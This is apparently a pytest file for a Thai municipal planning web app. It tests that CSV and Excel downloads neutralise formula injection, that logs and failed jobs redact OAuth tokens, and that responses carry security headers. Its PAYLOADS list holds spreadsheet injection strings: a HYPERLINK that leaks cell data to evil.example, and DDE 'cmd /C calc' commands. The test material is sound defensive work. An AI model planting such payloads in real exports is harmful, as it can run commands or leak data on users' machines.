"""Issue 9, items 5, 10 and 11 (headers): spreadsheet formulas, secrets in logs, browser headers.

Each test performs the attack against the real app on PostgreSQL (and Redis for jobs): a text that
a spreadsheet would run as a formula, credentials in URLs and error texts, a page that could be
framed or run injected script.
"""

from __future__ import annotations

import csv
import io
import logging
import re
import urllib.error
import urllib.request
from decimal import Decimal

import pytest
from itsdangerous import URLSafeTimedSerializer
from openpyxl import load_workbook
from rq import SimpleWorker
from sqlalchemy import select

from admin.oversight_views import OversightListView
from eplan_flow import exports, log_redaction
from eplan_flow.extensions import db as _db
from eplan_flow.jobs.worker import make_worker
from eplan_flow.models import District, Plan
from eplan_flow.services.oversight import status as oversight
from eplan_flow.services.platform import queues
from tests import factories
from tests.oversight.conftest import execution

FISCAL_YEAR = 2567
# What an LAO could type as a title (or DLA's registry file carry as a name): each a formula.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    '+HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://evil.example","x")',
    '\r=HYPERLINK("http://evil.example","x")',
)

# Credentials as they really look: an authorization code, a signed ID token, a confirmation token.
AUTH_CODE = "Zm9vYmFyQXV0aENvZGUxMjM0NTY3ODkw"
STATE = "c3RhdGVWYWx1ZTk4NzY1NDMyMQ"
ID_TOKEN = (
    "eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJpc3MiOiJodHRwOi8vc3NvIiwic3ViIjoiNDIifQ"
    ".c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU"
)
CONFIRM_TOKEN = URLSafeTimedSerializer("some-secret", salt="email-confirm").dumps(
    {"account": 7, "email": "somsri@example.org"}
)
REFRESH_TOKEN = "cmVmcmVzaFRva2VuU2VjcmV0MTIzNDU2"
SECRETS = (AUTH_CODE, STATE, ID_TOKEN, CONFIRM_TOKEN, REFRESH_TOKEN)
LEAKY_URLS = (
    f"/auth/oidc/callback?code={AUTH_CODE}&state={STATE}",
    f"/oidc/logout?id_token_hint={ID_TOKEN}&post_logout_redirect_uri=http%3A%2F%2F127.0.0.1%2F",
    f"/sso/confirm/{CONFIRM_TOKEN}",
)


def assert_no_secret(text: str) -> None:
    for secret in SECRETS:
        assert secret not in text
    # Not even the signature or payload part of a token.
    for token in (ID_TOKEN, CONFIRM_TOKEN):
        for part in token.split("."):
            if len(part) > 8:
                assert part not in text


# -- item 5: formulas in CSV and Excel downloads -----------------------------------------------------
@pytest.fixture
def hostile(world, db):
    """LAOs in districts whose registry names are formulas, one with a negative available budget,
    and plans of the province titled with each formula."""
    laos = []
    for i, payload in enumerate(PAYLOADS):
        district = factories.district(f"38{20 + i}", payload)
        lao = factories.lao(f"ทดสอบ{i}", "sao", district.code)
        lao.district_name_th = payload
        laos.append(lao)
    _db.session.commit()
    plan = factories.plan(laos[0], world.planner, status="announced")
    # 1,000 baht budgeted, 1,500 moved out: -500.00 available, a real negative number.
    execution(plan, 1, budget="1000.00", moved=(("transfer_out", "1500.00"),), actor=world.planner)
    titled = []
    for i, payload in enumerate(PAYLOADS):
        row = factories.plan(
            world.sao_c if i % 2 else world.sao_a, world.planner, period_start_be=2566 + 5 * i
        )
        row.title = payload
        titled.append(row.id)
    _db.session.commit()
    return {"laos": laos, "plan": plan, "plan_ids": titled}


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


def _xml_text(text: str) -> str:
    # XML (so xlsx) reads a CR as a LF: compare workbook text that way.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _assert_neutralised_text(value: str, payload: str) -> None:
    assert value in ("'" + payload, "'" + _xml_text(payload))
    assert not value.startswith(exports.FORMULA_PREFIXES)


def test_the_oversight_downloads_turn_formula_names_into_quoted_text_and_keep_numbers_numbers(
    hostile, world, client, login_as
):
    login_as(world.provincial_officer)
    district = oversight.EXPORT_HEADERS.index("อำเภอ")
    budget = oversight.EXPORT_HEADERS.index("งบประมาณหลังโอน (บาท)")
    # As stored (the text cleaner may have turned the CR into a LF): still a formula to a spreadsheet.
    codes = {lao.code: _db.session.get(District, lao.district_code).name_th for lao in hostile["laos"]}
    assert all(name.startswith(exports.FORMULA_PREFIXES) for name in codes.values())

    rows = _csv_rows(client.get(f"/oversight/export.csv?year={FISCAL_YEAR}").data)
    by_code = {row[0]: row for row in rows[1:]}
    for code, payload in codes.items():
        _assert_neutralised_text(by_code[code][district], payload)
    assert by_code[hostile["laos"][0].code][budget] == "-500.00"  # not "'-500.00"

    cells = _xlsx_cells(client.get(f"/oversight/export.xlsx?year={FISCAL_YEAR}").data)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    by_code = {row[0].value: row for row in cells[1:]}
    for code, payload in codes.items():
        cell = by_code[code][district]
        assert cell.data_type == "s"
        _assert_neutralised_text(cell.value, payload)
    money = by_code[hostile["laos"][0].code][budget]
    assert (money.data_type, money.value) == ("n", -500)


def test_the_back_office_downloads_turn_formula_titles_into_quoted_text(hostile, world, client, login_as):
    login_as(world.provincial_officer)
    stored = _db.session.scalars(select(Plan).where(Plan.id.in_(hostile["plan_ids"])))
    plans = {p.title: p for p in stored}
    in_workbook = {_xml_text(title): plan for title, plan in plans.items()}
    assert len(plans) == len(PAYLOADS) and all(t.startswith(exports.FORMULA_PREFIXES) for t in plans)

    listing = client.get("/admin/oversight/plans/")
    assert "/admin/oversight/plans/export/xlsx/" in listing.get_data(as_text=True)

    rows = _csv_rows(client.get("/admin/oversight/plans/export/csv/").data)
    exported = [value for row in rows[1:] for value in row if value.removeprefix("'") in plans]
    assert sorted(exported) == sorted("'" + title for title in plans)

    response = client.get("/admin/oversight/plans/export/xlsx/")
    assert response.status_code == 200 and response.mimetype == exports.XLSX_MIMETYPE
    cells = _xlsx_cells(response.data)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    found = 0
    for row in cells[1:]:
        titled = [c for c in row if isinstance(c.value, str) and c.value.removeprefix("'") in in_workbook]
        if not titled:
            continue
        (cell,) = titled
        found += 1
        assert cell.data_type == "s" and cell.value.startswith("'")
        # Numbers stay numbers: the plan's first year is an integer cell, not text.
        plan = in_workbook[cell.value.removeprefix("'")]
        assert any(c.data_type == "n" and c.value == plan.period_start_be for c in row)
    assert found == len(PAYLOADS)
    # Nothing changed in the database: the titles are stored as typed.
    _db.session.expire_all()
    stored = _db.session.scalars(select(Plan.title).where(Plan.id.in_(hostile["plan_ids"])))
    assert sorted(stored) == sorted(plans)


def test_a_back_office_download_format_not_written_by_the_rule_is_refused(
    hostile, world, client, login_as, monkeypatch
):
    # Even if a view offered another tablib format, it would not be written by tablib's writers.
    monkeypatch.setattr(OversightListView, "export_types", ("csv", "xlsx", "ods", "html"))
    login_as(world.provincial_officer)

    for fmt in ("ods", "html"):
        response = client.get(f"/admin/oversight/plans/export/{fmt}/")
        assert response.status_code == 302 and "/admin/oversight/plans/" in response.location


def test_safe_cell_quotes_formula_text_and_leaves_numbers_and_plain_text_alone():
    for payload in (*PAYLOADS, "\n=1", "\uff1dSUM(1)", "-", "=", "+1+1"):
        assert exports.safe_cell(payload) == "'" + payload
    for value in (Decimal("-1500.50"), -3, 2.5, None, "-1500.50", "+66", "แผนพัฒนาท้องถิ่น", "a=b", "'"):
        assert exports.safe_cell(value) == value


# -- item 10: secrets in logs and in failed jobs -----------------------------------------------------
def test_the_access_log_of_urls_with_codes_tokens_and_id_token_hints_is_redacted(live_server, caplog):
    caplog.set_level(logging.INFO, logger="werkzeug")

    for url in LEAKY_URLS:
        try:
            urllib.request.urlopen(urllib.request.Request(live_server.url + url), timeout=10).close()
        except urllib.error.HTTPError:
            pass  # refused is fine: the request line is logged either way

    access = [r for r in caplog.records if r.name == "werkzeug" and "HTTP/1.1" in r.getMessage()]
    assert len(access) >= len(LEAKY_URLS)
    text = "\n".join(r.getMessage() for r in access)
    assert_no_secret(text)
    assert "code=[REDACTED]&state=[REDACTED]" in text
    assert "id_token_hint=[REDACTED]" in text
    assert "/sso/confirm/[REDACTED]" in text


def test_a_traceback_that_quotes_a_url_with_credentials_is_redacted_in_every_handler(app, caplog):
    # As requests' HTTPError does: "400 Client Error: Bad Request for url: https://...?code=..."
    @app.get("/_test/upstream")
    def upstream():
        from flask import request

        raise RuntimeError(f"400 Client Error for url: {request.url}&refresh_token={REFRESH_TOKEN}")

    app.config["PROPAGATE_EXCEPTIONS"] = False
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(message)s"))
    logging.getLogger().addHandler(handler)
    try:
        response = app.test_client().get(f"/_test/upstream?code={AUTH_CODE}&id_token_hint={ID_TOKEN}")
    finally:
        logging.getLogger().removeHandler(handler)

    assert response.status_code == 500
    records = [r for r in caplog.records if r.exc_text and "RuntimeError" in r.exc_text]
    assert records, "Flask logged the exception with its traceback"
    for record in records:
        assert record.exc_info is None  # no handler can format the original again
        assert_no_secret(record.exc_text)
        assert "code=[REDACTED]" in record.exc_text and "refresh_token=[REDACTED]" in record.exc_text
    assert_no_secret(caplog.text)
    assert_no_secret(stream.getvalue())
    assert "RuntimeError: 400 Client Error for url:" in stream.getvalue()


def leaky_job(user_id: int) -> None:
    """A job whose failure quotes credentials (as an HTTP client's error would)."""
    raise PermissionError(
        f"the SSO refused user {user_id}: POST /oidc/token refresh_token={REFRESH_TOKEN}"
        f" id_token_hint={ID_TOKEN} link /sso/confirm/{CONFIRM_TOKEN}"
    )


def _enqueue_leaky_job() -> str:
    job = queues.queue("default").enqueue(
        f"{__name__}.leaky_job",
        kwargs={"user_id": 3},
    )
    return job.id


def test_a_failing_job_is_stored_and_shown_in_the_back_office_with_its_credentials_redacted(
    app, world, login_as, caplog
):
    job_id = _enqueue_leaky_job()

    make_worker(app, fork=False).work(burst=True)

    job = queues.queue("default").fetch_job(job_id)
    assert job.get_status() == "failed"
    stored = job.latest_result().exc_string
    assert "PermissionError" in stored and "[REDACTED]" in stored
    assert_no_secret(stored)
    assert_no_secret(caplog.text)  # the worker's own log of the failure
    body = login_as(world.dla_admin).get("/admin/jobs/?lang=en").get_data(as_text=True)
    assert job_id in body and "PermissionError: the SSO refused user 3" in body
    assert_no_secret(body)


def test_a_job_failed_by_a_plain_rq_worker_is_still_redacted_in_the_back_office(app, world, login_as):
    job_id = _enqueue_leaky_job()
    plain = SimpleWorker(
        [queues.queue("default")],
        connection=queues.redis_connection(app),
        serializer=queues.queue("default").serializer,
    )
    with app.app_context():
        plain.work(burst=True)
    assert ID_TOKEN in queues.queue("default").fetch_job(job_id).latest_result().exc_string  # stored raw

    body = login_as(world.dla_admin).get("/admin/jobs/?lang=en").get_data(as_text=True)

    assert job_id in body and "[REDACTED]" in body
    assert_no_secret(body)


def test_redaction_masks_every_credential_shape_and_leaves_ordinary_text():
    redact = log_redaction.redact
    for text in (
        f"POST /oidc/token grant_type=authorization_code&code={AUTH_CODE}&client_secret=s3cr3t-value",
        f"{{'password': 'hunter2-long', 'access_token': '{REFRESH_TOKEN}'}}",
        f"send(logout_token='{ID_TOKEN}')",
        f"GET /auth/login?next=%2Foidc%2Fauthorize%3Fcode%3D{AUTH_CODE}%26state%3D{STATE}",
        f"Authorization: Bearer epf_{REFRESH_TOKEN}",
        f"token={REFRESH_TOKEN}",
    ):
        out = redact(text)
        assert "[REDACTED]" in out
        assert_no_secret(out)
        assert "hunter2" not in out and "s3cr3t" not in out
    for text in (
        "GET /plans/12?lang=en HTTP/1.1",
        "status_code=500 workflow state=drafting",
        "POST /sso/confirm/resend HTTP/1.1",
        "LAO 6380101 budget 1200000.00",
    ):
        assert redact(text) == text


# -- item 11: headers on every response --------------------------------------------------------------
def _assert_security_headers(response, what: str) -> str:
    headers = response.headers
    assert headers.get("X-Frame-Options") == "DENY", what
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("Referrer-Policy") in ("same-origin", "no-referrer"), what
    csp = headers.get("Content-Security-Policy", "")
    directives = dict((part.split(" ", 1) + [""])[:2] for part in (p.strip() for p in csp.split(";")) if part)
    assert directives.get("frame-ancestors") == "'none'", what
    assert "'self'" in directives.get("default-src", ""), what
    assert "'unsafe-inline'" not in directives.get("script-src", "x"), what
    assert "'unsafe-inline'" not in directives.get("style-src", "x"), what
    assert directives.get("object-src") == "'none'", what
    return csp


def test_every_kind_of_response_carries_the_security_headers(world, client, login_as):
    anonymous = {
        "html page": "/auth/login",
        "public page": "/public/",
        "json api": "/api/v1/workflows",
        "static file": "/static/css/app.css",
        "admin static file": "/admin/static/vendor/jquery.min.js",
        "not found": "/no/such/page",
        "discovery": "/.well-known/openid-configuration",
    }
    for what, url in anonymous.items():
        with client.get(url) as response:  # static files are streamed: close them
            _assert_security_headers(response, what)
    login_as(world.provincial_officer)
    for what, url in {
        "admin": "/admin/",
        "admin list": "/admin/oversight/plans/",
        "oversight": f"/oversight/?year={FISCAL_YEAR}",
        "download": f"/oversight/export.csv?year={FISCAL_YEAR}",
    }.items():
        with client.get(url) as response:
            _assert_security_headers(response, what)


def test_an_app_served_over_https_tells_browsers_never_to_fall_back_to_plain_http(client):
    from tests.conftest import PRODUCTION_CONFIG, make_app

    assert "Strict-Transport-Security" not in client.get("/auth/login").headers  # plain-HTTP test app
    production = make_app(**PRODUCTION_CONFIG).test_client()
    response = production.get("/.well-known/openid-configuration")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


def test_inline_scripts_and_styles_carry_this_responses_nonce_and_nothing_else_runs(world, client, login_as):
    login_as(world.provincial_officer)
    for url in (f"/oversight/?year={FISCAL_YEAR}", "/admin/oversight/plans/"):
        response = client.get(url)
        csp = _assert_security_headers(response, url)
        nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
        body = response.get_data(as_text=True)
        inline = re.findall(r"<(script|style)\b([^>]*)>", body)
        assert inline, url
        for tag, attributes in inline:
            if tag == "script" and "src=" in attributes:
                continue
            assert f'nonce="{nonce}"' in attributes, (url, tag, attributes)
        # A fresh nonce per response: a leaked page's nonce is no use for the next one.
        assert nonce not in client.get(url).headers["Content-Security-Policy"]


@pytest.mark.e2e
def test_the_pages_and_the_back_office_run_in_chromium_without_a_csp_violation(
    live_server, hostile_live, chromium
):
    violations: list[str] = []
    context = chromium.new_context(java_script_enabled=True)
    try:
        page = context.new_page()
        page.on(
            "console",
            lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
        )
        page.add_init_script(
            "document.addEventListener('securitypolicyviolation', e =>"
            " console.error('Content Security Policy violation: ' + e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.goto(f"{live_server.url}/auth/login")
        page.fill("input[name=username]", hostile_live)
        page.fill("input[name=password]", "pw")
        page.click("form.stacked button[type=submit]")
        for url in (
            f"/oversight/?year={FISCAL_YEAR}",
            "/admin/",
            "/admin/oversight/plans/",
            "/admin/oversight/executions/",
            "/plans/",
            "/public/",
        ):
            page.goto(live_server.url + url)
            page.wait_for_load_state("load")
        # Flask-Admin's scripts run: its filter menu (Bootstrap, jQuery, Select2) opens and adds a filter.
        page.goto(f"{live_server.url}/admin/oversight/plans/")
        page.click("a.dropdown-toggle:has-text('Add Filter'), a.dropdown-toggle:has-text('เพิ่มตัวกรอง')")
        page.click("a.filter >> nth=0")
        page.wait_for_selector(".filters tr")
        assert page.evaluate("typeof window.jQuery") == "function"
    finally:
        context.close()

    assert violations == [], "\n".join(violations)


@pytest.fixture
def hostile_live(live_server):
    """A provincial officer in the live app (its own database session), returned by username."""
    with live_server.app.app_context():
        world = factories.build_world()
        plan = factories.plan(world.sao_a, world.planner)
        plan.title = PAYLOADS[0]
        _db.session.commit()
        return world.provincial_officer.username
